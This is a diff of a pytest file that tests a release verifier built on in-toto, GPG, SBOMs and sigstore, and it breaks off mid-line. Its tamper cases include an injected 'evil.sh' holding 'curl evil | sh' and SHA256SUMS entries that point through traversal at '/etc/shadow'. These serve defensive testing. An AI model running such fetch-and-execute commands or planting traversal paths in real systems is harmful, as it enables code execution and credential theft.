@@ -4,8 +4,10 @@ sha256sum and in-toto's verifier; tampered links and material rules are refused 
 from __future__ import annotations
 
 import base64
+import datetime
 import hashlib
 import json
+import os
 import shutil
 import subprocess
 from collections.abc import Callable, Iterator
@@ -22,7 +24,7 @@ from tests.conftest import mlos, write_repo
 from tests.integration.test_sbom import STAGES
 from tests.sigstore_standin import Standin
 
-STAGE_NAMES = ["bundle", "debs", "rootfs"]
+STAGE_NAMES = ["apt", "bundle", "debs", "rootfs"]
 # An image-like artifact carrying another step's product, and the binding that says so.
 BUNDLE = """
 [[stage]]
@@ -31,6 +33,11 @@ outputs = ["bundle.tar"]
 run = [["sh", "-euc", "tar --sort=name --mtime=@$SOURCE_DATE_EPOCH --owner=0 --group=0 --numeric-owner -C /in/debs -cf /out/bundle.tar debs/mlos-demo-a.deb"]]
 [stage.inputs]
 debs = "stage:debs"
+
+[[stage]]
+name = "apt"
+outputs = ["repo"]
+run = [["sh", "-euc", "mkdir -p /out/repo/dists/mlos && echo 'Origin: MLOS' > /out/repo/dists/mlos/Release"]]
 """
 BINDING = """
 [[binding]]
@@ -63,7 +70,8 @@ def built(tmp_path_factory: pytest.TempPathFactory, shared_store: Path) -> tuple
 
 def release(built: tuple[Path, Path], keys: Path, store: Path, dest: Path) -> Path:
     recipes, out = built
-    result = mlos("release", "--keys", keys, "--out", dest, "--from", out, "--recipes", recipes, "--store", store)
+    result = mlos("release", "--keys", keys, "--out", dest, "--from", out, "--recipes", recipes, "--store", store,
+                  "--release-version", "1.0")
     assert result.code == 0, result.stderr
     return dest
 
@@ -220,7 +228,7 @@ def verify(rel: Path, keys: Path, root_key: Path | None = None) -> tuple[int, di
 
 
 def failed(report: dict[str, Any]) -> dict[int, str]:
-    return {c["number"]: "\n".join(c["problems"]) for c in report["checks"] if not c["ok"]}
+    return {c["number"]: "\n".join(c["problems"]) for c in report["checks"] if c["status"] == "failed"}
 
 
 def resign_statement(path: Path, edit: object, key: Path) -> None:
@@ -236,12 +244,20 @@ def resign_statement(path: Path, edit: object, key: Path) -> None:
 def test_an_honest_release_passes_verify(honest: Path, keys: Path) -> None:
     code, report, err = verify(honest, keys)
     assert code == 0, (report, err)
-    assert [c["number"] for c in report["checks"]] == list(range(1, 11))
-    assert all(c["ok"] for c in report["checks"])
-    assert next(c for c in report["checks"] if c["number"] == 10)["note"] == "1 bindings hold"
+    assert [c["number"] for c in report["checks"]] == list(range(1, 14))
+    status = {c["number"]: c["status"] for c in report["checks"]}
+    # Only the sigstore check did not run (no --trusted-root), and it says so.
+    assert {n for n, s in status.items() if s != "passed"} == {11} and status[11] == "skipped"
+    assert (report["passed"], report["failed"], report["skipped"]) == (12, 0, 1)
+    assert report["verdict"] == "release verified, 1 checks skipped"
+    assert next(c for c in report["checks"] if c["number"] == 12)["note"] == "1 bindings hold"
+    assert "1 repositories signed by" in next(c for c in report["checks"] if c["number"] == 13)["note"]
+    # The release key taken from the release itself: allowed when named, but said.
     text = mlos("verify", honest, "--root-key", keys / "attestation/owner.pub.json", "--keyring",
                 honest / "layout/keys/release.asc")
-    assert text.code == 0 and "8. ok   SBOMs" in text.stdout
+    assert text.code == 0 and "10. ok   SBOMs" in text.stdout
+    assert "release.asc is inside the release it verifies" in text.stderr
+    assert "release verified, 1 checks skipped" in text.stderr
 
 
 def tamper_rootfs_link(rel: Path, keys: Path, tmp: Path) -> None:
@@ -330,49 +346,230 @@ def provenance_wrong_subject(rel: Path, keys: Path, tmp: Path) -> None:
 
 
 def swap_bundle_member(rel: Path, keys: Path, tmp: Path) -> None:
-    """The bundle carries mlos-demo-b under mlos-demo-a's name."""
+    """The bundle carries mlos-demo-b under mlos-demo-a's name, and the release key (stolen, say)
+    lists the new bundle: only the owner-signed binding can tell."""
     import tarfile
 
     with tarfile.open(rel / "artifacts/bundle/bundle.tar", "w") as tar:
         tar.add(rel / "artifacts/debs/debs/mlos-demo-b.deb", arcname="debs/mlos-demo-a.deb")
+    signed_by_release_key(rel, keys)
 
 
+def signed_by_release_key(rel: Path, keys: Path, sums: bytes | None = None,
+                          edit: Callable[[dict[str, Any]], object] | None = None) -> None:
+    """What someone holding the release key (but not the owner's or the builder's) can make:
+    SHA256SUMS of the artifacts as they now are (or `sums`), and release.json (edited) over
+    the files as they now are, both signed."""
+    from mlos_repro.attest import release_meta
+    from mlos_repro.sign.gpg import GpgSigner
+
+    signer = GpgSigner(keys / "gnupg")
+    if sums is None:
+        walk = release_meta.walk(rel)
+        sums = release_meta.sums_text({n: release_meta.entry_digest(rel / "artifacts" / n) for n in walk.artifacts})
+    (rel / "SHA256SUMS").write_bytes(sums)
+    (rel / "SHA256SUMS.gpg").write_bytes(signer.detach(sums))
+    (rel / "SHA256SUMS.asc").write_bytes(signer.clearsign(sums))
+    info = json.loads((rel / "release.json").read_text())
+    info["files"] = release_meta.inventory(rel, release_meta.walk(rel).metadata)
+    if edit is not None:
+        edit(info)
+    data = json.dumps(info).encode()
+    (rel / "release.json").write_bytes(data)
+    (rel / "release.json.gpg").write_bytes(signer.detach(data))
+
+
+def sums_with(rel: Path, line: str) -> bytes:
+    return (rel / "SHA256SUMS").read_bytes() + line.encode() + b"\n"
+
+
+def other_key(tmp: Path) -> Path:
+    from tests.conftest import gpg
+
+    home = tmp / "other-gnupg"
+    home.mkdir(mode=0o700)
+    gpg(home, "--quick-gen-key", "Someone else <x@example.org>", "ed25519", "sign", "1d")
+    return home
+
+
+def inject_after_build(rel: Path, keys: Path, tmp: Path, *, with_key: bool) -> None:
+    """An extra file in artifacts/, exempted from provenance as 'signed after the build'."""
+    (rel / "artifacts/debs/evil.sh").write_text("curl evil | sh\n")
+    digest = hashlib.sha256((rel / "artifacts/debs/evil.sh").read_bytes()).hexdigest()
+
+    def edit(info: dict[str, Any]) -> None:
+        info["signed_after_build"].append("debs/evil.sh")
+    if with_key:
+        signed_by_release_key(rel, keys, edit=edit)
+        return
+    (rel / "SHA256SUMS").write_bytes(sums_with(rel, f"{digest}  debs/evil.sh"))
+    info = json.loads((rel / "release.json").read_text())
+    edit(info)
+    (rel / "release.json").write_text(json.dumps(info))
+
+
+def swap_apt_keyring(rel: Path, keys: Path, tmp: Path, *, with_key: bool) -> None:
+    """The repository's keyring swapped for another key, InRelease re-signed by it."""
+    from tests.conftest import gpg
+
+    home = other_key(tmp)
+    base = rel / "artifacts/apt/repo/dists/mlos"
+    release_bytes = (base / "Release").read_bytes()
+    (base / "InRelease").write_bytes(gpg(home, "--clearsign", "-o", "-", stdin=release_bytes))
+    (rel / "artifacts/apt/mlos-archive-keyring.gpg").write_bytes(gpg(home, "--export"))
+    subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "gpg-agent"], check=False)
+    if with_key:
+        signed_by_release_key(rel, keys)
+    else:
+        from mlos_repro.attest import release_meta
+
+        walk = release_meta.walk(rel)
+        (rel / "SHA256SUMS").write_bytes(release_meta.sums_text(
+            {n: release_meta.entry_digest(rel / "artifacts" / n) for n in walk.artifacts}))
+
+
+def extend_in_release(rel: Path, keys: Path, tmp: Path) -> None:
+    """A repository that would outlive its release: InRelease with a later Valid-Until."""
+    from mlos_repro.sign.gpg import GpgSigner
+    from mlos_repro.sign.repository import with_valid_until
+
+    base = rel / "artifacts/apt/repo/dists/mlos"
+    later = datetime.datetime(2099, 1, 1, tzinfo=datetime.UTC)
+    (base / "InRelease").write_bytes(GpgSigner(keys / "gnupg").clearsign(
+        with_valid_until((base / "Release").read_bytes(), later)))
+    signed_by_release_key(rel, keys)
+
+
+def layout_edit(rel: Path, keys: Path, edit: Callable[[dict[str, Any]], object]) -> None:
+    from in_toto.models.layout import Layout
+
+    envelope = json.loads((rel / "layout/root.layout").read_text())
+    data = json.loads(base64.b64decode(envelope["payload"]))
+    edit(data)
+    fresh = Envelope.from_signable(Layout.read(data))
+    fresh.create_signature(CryptoSigner(load_pem_private_key((keys / "attestation/owner.key").read_bytes(), None)))
+    (rel / "layout/root.layout").write_text(json.dumps(fresh.to_dict()))
+
+
+def one_key_twice(data: dict[str, Any]) -> None:
+    """The builder's key listed again under a made-up key id, and a threshold of two."""
+    (keyid, key), = ((k, v) for k, v in data["keys"].items() if k in data["steps"][0]["pubkeys"])
+    twin = "f" * 64
+    data["keys"][twin] = {**key, "keyid": twin}
+    for step in data["steps"]:
+        step["pubkeys"] = [keyid, twin]
+        step["threshold"] = 2
+
+
+def mixed_in_link(rel: Path, keys: Path, tmp: Path) -> None:
+    """A validly signed link of the rootfs step, but from a build that made other bytes."""
+    (link,) = (rel / "attestations/links").glob("rootfs.*.link")
+    _resign(link, lambda d: d["products"]["rootfs/rootfs.tar"].update(sha256="3" * 64), keys / "attestation/builder.key")
+
+
+def fifo(path: Path) -> None:
+    path.unlink()
+    os.mkfifo(path)
+
+
+def symlink_out(rel: Path, tmp: Path) -> None:
+    """An artifact replaced by a symlink to an identical copy outside the release."""
+    target = rel / "artifacts/debs/debs/mlos-demo-a.deb"
+    outside = tmp / "outside.deb"
+    shutil.copy(target, outside)
+    target.unlink()
+    target.symlink_to(outside)
+
+
+def symlink_zero(path: Path) -> None:
+    path.unlink()
+    path.symlink_to("/dev/zero")
+
+
+A = "0" * 64
 Edit = Callable[[Path, Path, Path], object]
 TAMPERING: dict[str, tuple[Edit, int, str, int]] = {
     # case: (edit, failing check, words of its message, exit code)
     "swapped artifact": (lambda r, k, t: shutil.copy(r / "artifacts/debs/debs/mlos-demo-b.deb",
                                                       r / "artifacts/debs/debs/mlos-demo-a.deb"),
-                         6, "artifacts/debs/debs/mlos-demo-a.deb: sha256", 1),
-    "one flipped byte": (lambda r, k, t: flip_byte(r / "artifacts/rootfs/rootfs.tar"), 6,
+                         8, "artifacts/debs/debs/mlos-demo-a.deb: sha256", 1),
+    "one flipped byte": (lambda r, k, t: flip_byte(r / "artifacts/rootfs/rootfs.tar"), 8,
                          "artifacts/rootfs/rootfs.tar: sha256", 1),
-    "SHA256SUMS edited": (edit_sums, 5, "SHA256SUMS.gpg: bad or unknown signature", 1),
-    "signature from another key": (resign_sums, 5, "SHA256SUMS.gpg: bad or unknown signature", 1),
-    "signature missing": (lambda r, k, t: (r / "SHA256SUMS.gpg").unlink(), 5, "SHA256SUMS.gpg: missing", 1),
-    "link edited after signing": (tamper_rootfs_link, 3, "Step 'rootfs' requires at least '1' links", 1),
-    "link by a non-functionary": (non_functionary_link, 3, "Step 'rootfs' requires at least '1' links", 1),
-    "step's link missing": (lambda r, k, t: next((r / "attestations/links").glob("debs.*.link")).unlink(), 3,
+    "SHA256SUMS edited": (edit_sums, 7, "SHA256SUMS.gpg: bad or unknown signature", 1),
+    "signature from another key": (resign_sums, 7, "SHA256SUMS.gpg: bad or unknown signature", 1),
+    "signature missing": (lambda r, k, t: (r / "SHA256SUMS.gpg").unlink(), 7, "SHA256SUMS.gpg: missing", 1),
+    "link edited after signing": (tamper_rootfs_link, 5, "Step 'rootfs' requires at least '1' links", 1),
+    "link by a non-functionary (an unlisted key)": (non_functionary_link, 5,
+                                                     "Step 'rootfs' requires at least '1' links", 1),
+    "step's link missing": (lambda r, k, t: next((r / "attestations/links").glob("debs.*.link")).unlink(), 5,
                             "debs", 1),
-    "threshold not met": (threshold_two, 3, "requires '2' link metadata file(s), found '1'", 1),
-    "expired layout": (expired_layout, 2, "expired", 1),
-    "provenance subject digest wrong": (provenance_wrong_subject, 7,
+    "threshold not met": (threshold_two, 5, "requires '2' link metadata file(s), found '1'", 1),
+    "threshold met by one key under two key ids": (lambda r, k, t: layout_edit(r, k, one_key_twice), 5,
+                                                   "one key under two key ids", 1),
+    "expired layout": (expired_layout, 4, "expired", 1),
+    "layout replayed from another release": (
+        lambda r, k, t: layout_edit(r, k, lambda d: d.update(expires="2099-01-01T00:00:00Z")), 2,
+        "layout/root.layout: sha256", 1),
+    "a link mixed in from another build": (mixed_in_link, 2, ".link: sha256", 1),
+    "provenance subject digest wrong": (provenance_wrong_subject, 9,
                                         "rootfs.tar.intoto.json: subjects differ from the step's products", 1),
-    "SBOM pointing at another digest": (sbom_other_digest, 8, "describes sha256 " + "1" * 64, 1),
-    "SBOM schema-invalid": (sbom_schema_invalid, 8, "'nonsense' is not one of", 1),
-    "truncated layout": (lambda r, k, t: (r / "layout/root.layout").write_text('{"payload": "eyJ'), 1,
-                         "root.layout: not a DSSE-signed in-toto layout", 2),
-    "malformed link": (lambda r, k, t: next((r / "attestations/links").glob("debs.*.link")).write_text("{"), 3,
+    "SBOM pointing at another digest": (sbom_other_digest, 10, "describes sha256 " + "1" * 64, 1),
+    "SBOM schema-invalid": (sbom_schema_invalid, 10, "'nonsense' is not one of", 1),
+    "truncated layout": (lambda r, k, t: (r / "layout/root.layout").write_text('{"payload": "eyJ'), 3,
+                         "root.layout: not valid JSON", 2),
+    "malformed link": (lambda r, k, t: next((r / "attestations/links").glob("debs.*.link")).write_text("{"), 5,
                        ".link: not valid JSON", 2),
     "malformed provenance": (lambda r, k, t: (r / "attestations/provenance/debs/debs.intoto.json").write_text("[1,"),
-                             7, "debs.intoto.json: not valid JSON", 2),
-    "malformed SBOM": (lambda r, k, t: (r / "sbom/debs/debs.cdx.json").write_text('{"bomFormat": '), 8,
+                             9, "debs.intoto.json: not valid JSON", 2),
+    "malformed SBOM": (lambda r, k, t: (r / "sbom/debs/debs.cdx.json").write_text('{"bomFormat": '), 10,
                        "debs.cdx.json: not valid JSON", 2),
-    "image not carrying its upstream product": (swap_bundle_member, 10,
+    "image not carrying its upstream product": (swap_bundle_member, 12,
                                                  "binding bundle/bundle.tar → debs/mlos-demo-a.deb: sha256", 1),
-    "malformed release.json": (lambda r, k, t: (r / "release.json").write_text('{"stages": '), 7,
-                               "release.json: not valid JSON", 2),
-    "malformed bindings": (lambda r, k, t: (r / "layout/bindings.json").write_text("{}"), 10,
+    "release.json edited: never parsed, its signature fails": (
+        lambda r, k, t: (r / "release.json").write_text('{"stages": '), 1,
+        "release.json.gpg: bad or unknown signature", 1),
+    "release.json unsigned": (lambda r, k, t: (r / "release.json.gpg").unlink(), 1, "release.json.gpg: missing", 1),
+    "release.json signed, a field of the wrong type": (
+        lambda r, k, t: signed_by_release_key(r, k, edit=lambda i: i.update(files=["SHA256SUMS"])), 1,
+        "files: expected", 2),
+    "release.json signed, but expired": (
+        lambda r, k, t: signed_by_release_key(r, k, edit=lambda i: i.update(expires="2020-01-01T00:00:00Z")), 1,
+        "expired on 2020-01-01", 1),
+    "release.json a symlink to /dev/zero": (lambda r, k, t: symlink_zero(r / "release.json"), 1,
+                                            "release.json: a symbolic link", 2),
+    "release.json a FIFO": (lambda r, k, t: fifo(r / "release.json"), 1, "release.json: a FIFO", 2),
+    "a FIFO among the artifacts": (lambda r, k, t: os.mkfifo(r / "artifacts/debs/pipe"), 2,
+                                   "artifacts/debs/pipe: a FIFO, which has no place in a release", 1),
+    "an unsigned metadata file added": (
+        lambda r, k, t: (r / "attestations/provenance/extra.intoto.json").write_text("{}"), 2,
+        "attestations/provenance/extra.intoto.json: not signed", 1),
+    "artifact replaced by a symlink to an identical file outside": (
+        lambda r, k, t: symlink_out(r, t), 8, "artifacts/debs/debs/mlos-demo-a.deb: sha256", 1),
+    "injected file claimed as signed after the build": (
+        lambda r, k, t: inject_after_build(r, k, t, with_key=False), 1, "release.json.gpg: bad or unknown", 1),
+    "injected file claimed as signed after the build, with the release key": (
+        lambda r, k, t: inject_after_build(r, k, t, with_key=True), 13,
+        "signed_after_build names debs/evil.sh, which is no repository signature", 1),
+    "APT keyring swapped, InRelease re-signed, SHA256SUMS edited": (
+        lambda r, k, t: swap_apt_keyring(r, k, t, with_key=False), 7, "SHA256SUMS.gpg: bad or unknown", 1),
+    "APT keyring swapped, InRelease re-signed, with the release key": (
+        lambda r, k, t: swap_apt_keyring(r, k, t, with_key=True), 13, "InRelease: bad or unknown signature", 1),
+    "InRelease valid for longer than the release (signed)": (extend_in_release, 13,
+                                                             "with Valid-Until", 1),
+    "SHA256SUMS lists a file twice (signed)": (
+        lambda r, k, t: signed_by_release_key(r, k, sums_with(r, f"{A}  debs/debs/mlos-demo-a.deb")), 8,
+        "debs/debs/mlos-demo-a.deb is listed twice", 2),
+    "SHA256SUMS with a '..' path (signed)": (
+        lambda r, k, t: signed_by_release_key(r, k, sums_with(r, f"{A}  debs/../../etc/shadow")), 8,
+        "has an empty, '.' or '..' component", 2),
+    "SHA256SUMS with an absolute path (signed)": (
+        lambda r, k, t: signed_by_release_key(r, k, sums_with(r, f"{A}  /etc/shadow")), 8, "an absolute path", 2),
+    "SHA256SUMS with a trailing space (signed)": (
+        lambda r, k, t: signed_by_release_key(r, k, sums_with(r, f"{A}  debs/debs/x.deb ")), 8,
+        "begins or ends with whitespace", 2),
+    "malformed bindings": (lambda r, k, t: (r / "layout/bindings.json").write_text("{}"), 12,
                            "bindings.json: not a DSSE envelope", 2),
-    "malformed SHA256SUMS": (lambda r, k, t: (r / "SHA256SUMS").write_text("not a sum line\n"), 6,
+    "malformed SHA256SUMS": (lambda r, k, t: (r / "SHA256SUMS").write_text("not a sum line\n"), 8,
                              "SHA256SUMS:1: expected 'SHA256  NAME'", 2),
 }
 
@@ -393,29 +590,36 @@ def test_verify_rejects_tampering(case: str, honest: Path, keys: Path, tmp_path:
 def test_verify_rejects_a_layout_signed_by_another_key(honest: Path, keys: Path) -> None:
     code, report, _ = verify(honest, keys, root_key=keys / "attestation/builder.pub.json")
     assert code == 1
-    assert "not signed by the root key" in failed(report)[1]
+    assert "not signed by the root key" in failed(report)[3]
     # Everything that depends on the layout says so instead of passing.
-    assert "not checked: layout signature failed" in failed(report)[3]
+    assert "not checked: layout signature failed" in failed(report)[5]
 
 
 def test_verify_iso_gives_one_verdict(honest: Path, keys: Path, built: tuple[Path, Path], shared_store: Path,
                                       tmp_path: Path, unique: str) -> None:
+    keyring = keys / "archive-keyring.gpg"
     artifact = honest / "artifacts/rootfs/rootfs.tar"
-    ok = mlos("verify-iso", artifact, "--keyring", keys / "archive-keyring.gpg", "--json")
+    ok = mlos("verify-iso", artifact, "--keyring", keyring, "--json")
     assert ok.code == 0, ok.stderr
     info = json.loads(ok.stdout)
     assert info["listed_as"] == "rootfs/rootfs.tar" and info["sha256"] == hashlib.sha256(artifact.read_bytes()).hexdigest()
-    assert info["packages"] > 50 and info["provenance"] is True
-    # Downloaded alone next to the signed sums: found by its name.
+    # Signed facts only: release.json by the release key, the SBOM as release.json lists it.
+    facts = info["facts"]
+    assert facts["version"] == json.loads((honest / "release.json").read_text())["version"]
+    assert facts["packages"] > 50 and facts["released"] and facts["expires"] > facts["released"]
+    assert info["signed_by"] == [f"signed by a key of {keyring}"]
+    # Downloaded alone next to the signed sums: found by its name; nothing unsigned is said.
     alone = tmp_path / "download"
     alone.mkdir()
     for name in ("SHA256SUMS", "SHA256SUMS.gpg"):
         shutil.copy(honest / name, alone / name)
     shutil.copy(artifact, alone / "rootfs.tar")
-    assert mlos("verify-iso", alone / "rootfs.tar", "--keyring", keys / "archive-keyring.gpg").code == 0
+    bare = mlos("verify-iso", alone / "rootfs.tar", "--keyring", keyring, "--json")
+    assert bare.code == 0 and json.loads(bare.stdout)["facts"] == {}
+    assert "not shown: no release.json" in bare.stderr + bare.stdout
     # One flipped byte.
     flip_byte(alone / "rootfs.tar")
-    bad = mlos("verify-iso", alone / "rootfs.tar", "--keyring", keys / "archive-keyring.gpg")
+    bad = mlos("verify-iso", alone / "rootfs.tar", "--keyring", keyring)
     assert bad.code == 1 and "is not what the signed SHA256SUMS lists" in bad.stderr
     # An older release's signed files replayed with a newer artifact.
     recipes = write_repo(tmp_path / "newer", STAGES.replace("@VERSION@", "1.1").replace("opt/dropped/tool.sh",
@@ -423,13 +627,101 @@ def test_verify_iso_gives_one_verdict(honest: Path, keys: Path, built: tuple[Pat
     newer_out = tmp_path / "newer-out"
     assert mlos("build", "--recipes", recipes, "--out", newer_out, "--store", shared_store).code == 0
     shutil.copy(newer_out / "rootfs/rootfs.tar", alone / "rootfs.tar")
-    replay = mlos("verify-iso", alone / "rootfs.tar", "--keyring", keys / "archive-keyring.gpg")
+    replay = mlos("verify-iso", alone / "rootfs.tar", "--keyring", keyring)
     assert replay.code == 1 and "from another release" in replay.stderr
     # The wrong key.
     other = tmp_path / "other.gpg"
     other.write_bytes(b"")
     wrong = mlos("verify-iso", artifact, "--keyring", other)
     assert wrong.code == 1 and "bad or unknown signature" in wrong.stderr
+
+
+def copy_of(honest: Path, tmp: Path, name: str = "rel") -> Path:
+    rel = tmp / name
+    shutil.copytree(honest, rel, symlinks=True)
+    return rel
+
+
+ISO = "artifacts/rootfs/rootfs.tar"
+
+
+def test_verify_iso_says_only_what_is_signed(honest: Path, keys: Path, tmp_path: Path) -> None:
+    keyring = keys / "archive-keyring.gpg"
+    # An SBOM edited to claim another kernel and 500 packages: not the SBOM release.json lists.
+    rel = copy_of(honest, tmp_path, "sbom")
+    path = rel / "sbom/rootfs/rootfs.tar.cdx.json"
+    sbom = json.loads(path.read_text())
+    sbom["components"] += [{"type": "library", "name": f"p{i}", "version": "1"} for i in range(500)]
+    path.write_text(json.dumps(sbom))
+    result = mlos("verify-iso", rel / ISO, "--keyring", keyring)
+    assert result.code == 1 and "not the SBOM the signed release.json lists" in result.stderr
+    assert "500" not in result.stdout
+    # release.json without its signature: the ISO verifies, but no version or kernel is shown.
+    rel = copy_of(honest, tmp_path, "unsigned")
+    (rel / "release.json.gpg").unlink()
+    info = json.loads((rel / "release.json").read_text())
+    info["version"] = "99.0"
+    (rel / "release.json").write_text(json.dumps(info))
+    result = mlos("verify-iso", rel / ISO, "--keyring", keyring, "--json")
+    assert result.code == 0 and json.loads(result.stdout)["facts"] == {}
+    assert "release.json is not signed" in " ".join(json.loads(result.stdout)["notes"])
+    # ... and its signature present but not matching: tampered, refused.
+    rel = copy_of(honest, tmp_path, "edited")
+    (rel / "release.json").write_text(json.dumps(info))
+    result = mlos("verify-iso", rel / ISO, "--keyring", keyring)
+    assert result.code == 1 and "release.json.gpg: bad or unknown signature" in result.stderr
+    # A release.json (signed) of another release beside this SHA256SUMS.
+    rel = copy_of(honest, tmp_path, "mixed")
+    signed_by_release_key(rel, keys, sums_with(rel, f"{A}  debs/another.deb"))
+    shutil.copy(honest / "SHA256SUMS", rel / "SHA256SUMS")
+    shutil.copy(honest / "SHA256SUMS.gpg", rel / "SHA256SUMS.gpg")
+    result = mlos("verify-iso", rel / ISO, "--keyring", keyring)
+    assert result.code == 1 and "signed for another SHA256SUMS" in result.stderr
+    # Hostile files where SHA256SUMS and release.json should be: refused, never read without end.
+    rel = copy_of(honest, tmp_path, "fifo")
+    fifo(rel / "release.json")
+    result = mlos("verify-iso", rel / ISO, "--keyring", keyring)
+    assert result.code == 2 and "release.json: a FIFO" in result.stderr
+    rel = copy_of(honest, tmp_path, "zero")
+    symlink_zero(rel / "SHA256SUMS")
+    result = mlos("verify-iso", rel / ISO, "--keyring", keyring)
+    assert result.code == 2 and "SHA256SUMS: a symbolic link" in result.stderr
+    os.mkfifo(tmp_path / "pipe.iso")
+    result = mlos("verify-iso", tmp_path / "pipe.iso", "--keyring", keyring, "--release", honest)
+    assert result.code == 2 and "pipe.iso: a FIFO" in result.stderr
+
+
+def test_verify_iso_refuses_a_rollback(honest: Path, built: tuple[Path, Path], keys: Path, shared_store: Path,
+                                       tmp_path: Path) -> None:
+    """An honest older release presented after a newer one was seen: refused, by the record of
+    what this machine verified and by --min-version."""
+    keyring = keys / "archive-keyring.gpg"
+    newer = release(built, keys, shared_store, tmp_path / "newer")  # released after `honest`
+    state = {"XDG_STATE_HOME": str(tmp_path / "state")}
+    assert mlos("verify-iso", newer / ISO, "--keyring", keyring, env=state).code == 0
+    assert (tmp_path / "state/mlos-repro/newest-releases.json").is_file()
+    old = mlos("verify-iso", honest / ISO, "--keyring", keyring, env=state)
+    assert old.code == 1 and "a rollback" in old.stderr and "--accept-older" in old.stderr
+    accepted = mlos("verify-iso", honest / ISO, "--keyring", keyring, "--accept-older", env=state)
+    assert accepted.code == 0 and "accepted with --accept-older" in accepted.stderr
+    assert mlos("verify-iso", newer / ISO, "--keyring", keyring, env=state).code == 0
+    version = json.loads((honest / "release.json").read_text())["version"]
+    too_old = mlos("verify-iso", newer / ISO, "--keyring", keyring, "--min-version", f"{version}.1")
+    assert too_old.code == 1 and f"older than --min-version {version}.1" in too_old.stderr
+    assert mlos("verify-iso", newer / ISO, "--keyring", keyring, "--min-version", version).code == 0
+
+
+def test_a_verdict_needs_a_trust_anchor(honest: Path, keys: Path) -> None:
+    root = keys / "attestation/owner.pub.json"
+    # The root key alone authenticates nothing outside the in-toto graph.
+    alone = mlos("verify", honest, "--root-key", root)
+    assert alone.code == 2 and "give a trust anchor" in alone.stderr
+    assert mlos("verify-iso", honest / ISO).code == 2
+    # A sigstore identity means nothing without its issuer (as sigstore's own CLI has it).
+    commands: list[list[str | Path]] = [["verify", honest, "--root-key", root], ["verify-iso", honest / ISO]]
+    for command in commands:
+        partial = mlos(*command, "--trusted-root", root, "--identity", "someone@example.org")
+        assert partial.code == 2 and "--trusted-root, --identity and --issuer go together" in partial.stderr
 
 
 # -- sigstore: keyless signatures from a local Fulcio + Rekor, verified offline ----------------
@@ -450,7 +742,7 @@ def keyless(built: tuple[Path, Path], keys: Path, shared_store: Path, standin: S
     recipes, out = built
     rel = work / "rel"
     result = mlos("release", "--keys", keys, "--out", rel, "--from", out, "--recipes", recipes, "--store", shared_store,
-                  "--sigstore", "--trust-config", config, "--identity-token", standin.token(IDENTITY))
+                  "--release-version", "1.0", "--sigstore", "--trust-config", config, "--identity-token", standin.token(IDENTITY))
     assert result.code == 0, result.stderr
     return rel
 
@@ -470,8 +762,16 @@ def test_keyless_signatures_verify_offline(keyless: Path, keys: Path, standin: S
     assert (keyless / "attestations/provenance/rootfs/rootfs.tar.intoto.json.sigstore.json").is_file()
     code, report = verify_keyless(keyless, keys, standin)
     assert code == 0, report
-    (sigstore_check,) = [c for c in report["checks"] if c["number"] == 9]
-    assert sigstore_check["ok"] and IDENTITY in sigstore_check["note"]
+    (sigstore_check,) = [c for c in report["checks"] if c["number"] == 11]
+    assert sigstore_check["status"] == "passed" and IDENTITY in sigstore_check["note"]
+    # The sigstore identity alone, without the OpenPGP key: SHA256SUMS' OpenPGP check is
+    # skipped and said so; everything else rests on the keyless signatures.
+    alone = mlos("verify", keyless, "--root-key", keys / "attestation/owner.pub.json", "--trusted-root",
+                 keyless / "trusted_root.json", "--identity", IDENTITY, "--issuer", standin.issuer, "--json")
+    report = json.loads(alone.stdout)
+    assert alone.code == 0, report
+    assert {c["number"] for c in report["checks"] if c["status"] == "skipped"} == {7}
+    assert "trusted_root.json is inside the release it verifies" in alone.stderr
     # The user's one command, with the sigstore identity instead of the OpenPGP key.
     iso = mlos("verify-iso", keyless / "artifacts/rootfs/rootfs.tar", "--trusted-root", keyless / "trusted_root.json",
                "--identity", IDENTITY, "--issuer", standin.issuer)
@@ -486,19 +786,19 @@ def test_keyless_bundles_for_another_file_or_identity_are_refused(keyless: Path,
     shutil.copy(rel / "attestations/provenance/debs/debs.intoto.json.sigstore.json", rel / "SHA256SUMS.sigstore.json")
     code, report = verify_keyless(rel, keys, standin)
     assert code == 1
-    assert "SHA256SUMS.sigstore.json: Bundle message digest mismatch" in failed(report)[9]
+    assert "SHA256SUMS.sigstore.json: Bundle message digest mismatch" in failed(report)[11]
     # A truncated bundle: malformed, exit 2.
     cut = tmp_path / "cut"
     shutil.copytree(keyless, cut)
     bundle = cut / "SHA256SUMS.sigstore.json"
     bundle.write_bytes(bundle.read_bytes()[:100])
     code, report = verify_keyless(cut, keys, standin)
-    assert code == 2 and "SHA256SUMS.sigstore.json: not a sigstore bundle" in failed(report)[9]
+    assert code == 2 and "SHA256SUMS.sigstore.json: not a sigstore bundle" in failed(report)[11]
     # The right bundles, but another identity expected.
     code, report = verify_keyless(keyless, keys, standin, identity="someone@example.org")
-    assert code == 1 and "SANs do not match someone@example.org" in failed(report)[9]
+    assert code == 1 and "SANs do not match someone@example.org" in failed(report)[11]
     iso = mlos("verify-iso", keyless / "artifacts/rootfs/rootfs.tar", "--trusted-root", keyless / "trusted_root.json",
-               "--identity", "someone@example.org")
+               "--identity", "someone@example.org", "--issuer", standin.issuer)
     assert iso.code == 1 and "do not match" in iso.stderr
     # Another instance's trusted root: nothing chains to it.
     other = Standin()
@@ -507,9 +807,10 @@ def test_keyless_bundles_for_another_file_or_identity_are_refused(keyless: Path,
     finally:
         other.close()
     result = mlos("verify", keyless, "--root-key", keys / "attestation/owner.pub.json", "--trusted-root",
-                  tmp_path / "other-root.json", "--identity", IDENTITY, "--json")
+                  tmp_path / "other-root.json", "--identity", IDENTITY, "--issuer", standin.issuer, "--json")
     assert result.code == 1
-    assert failed(json.loads(result.stdout))[9]
+    assert failed(json.loads(result.stdout))[11]
+    assert failed(json.loads(result.stdout))[1]  # release.json's bundle chains to nothing either
 
 
 def test_keyless_signing_without_a_token_says_how(built: tuple[Path, Path], keys: Path, shared_store: Path,
@@ -518,11 +819,11 @@ def test_keyless_signing_without_a_token_says_how(built: tuple[Path, Path], keys
     config = tmp_path / "trust-config.json"
     config.write_text(json.dumps(standin.trust_config()))
     result = mlos("release", "--keys", keys, "--out", tmp_path / "rel", "--recipes", recipes, "--store", shared_store,
-                  "--sigstore", "--trust-config", config)
+                  "--release-version", "1.0", "--sigstore", "--trust-config", config)
     assert result.code == 5 and "--identity-token" in result.stderr
     assert not (tmp_path / "rel").exists()
     expired = mlos("release", "--keys", keys, "--out", tmp_path / "rel", "--recipes", recipes, "--store",
-                   shared_store, "--sigstore", "--trust-config", config, "--identity-token",
